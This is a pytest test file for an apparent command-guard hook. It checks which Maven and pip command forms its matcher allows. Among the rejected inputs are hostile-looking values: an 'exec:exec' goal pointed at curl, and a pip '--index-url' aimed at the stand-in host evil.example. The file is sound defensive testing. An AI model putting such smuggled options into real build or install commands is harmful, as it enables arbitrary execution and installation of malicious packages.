"""`{flags:NAMES}` in a command form: plain options plus the named options with their values,
and nothing else (hook/cmdforms.py). The Maven forms of rules/toolchains/java.yaml use it so
`mvn -pl core -Dtest=T test` is allowed while a plugin goal (`exec:exec`) is not."""

import pytest

from legant_guard.hook.cmdforms import matches

MVN = "mvn* {flags:-pl,-D,-T,--projects} test {flags:-pl,-D,-T,--projects}"


@pytest.mark.parametrize("args", [
    "test", "-q test", "-pl core test", "-pl core -am test", "-Dtest=FooTest test", "test -Dtest=Foo -q",
    "-pl :core -am -T 4 test", "--projects=a,b test", "--projects a,b test", "-T4 test", "-DskipTests test",
])
def test_named_options_take_their_value(args):
    assert matches(MVN, "mvn", args.split())
    assert matches(MVN, "mvnw", args.split())


@pytest.mark.parametrize("args", [
    "test exec:exec", "exec:exec test", "test exec:exec -Dexec.executable=curl", "-pl", "test -pl", "-x=1 test",
    "--other=1 test", "-pl core", "test --", "-- test", "dependency:tree", "-Xfoo=1 test", "test test2",
])
def test_other_words_are_not_options(args):
    assert not matches(MVN, "mvn", args.split())


def test_plain_flags_stay_plain():
    # `{flags}` keeps refusing option values (pip --index-url=URL)
    form = "pip* install {flags} -e . {flags}"
    assert matches(form, "pip", ["install", "-q", "-e", "."])
    assert not matches(form, "pip", ["install", "--index-url=http://evil.example", "-e", "."])
    assert not matches(form, "pip", ["install", "-e", ".", "requests"])
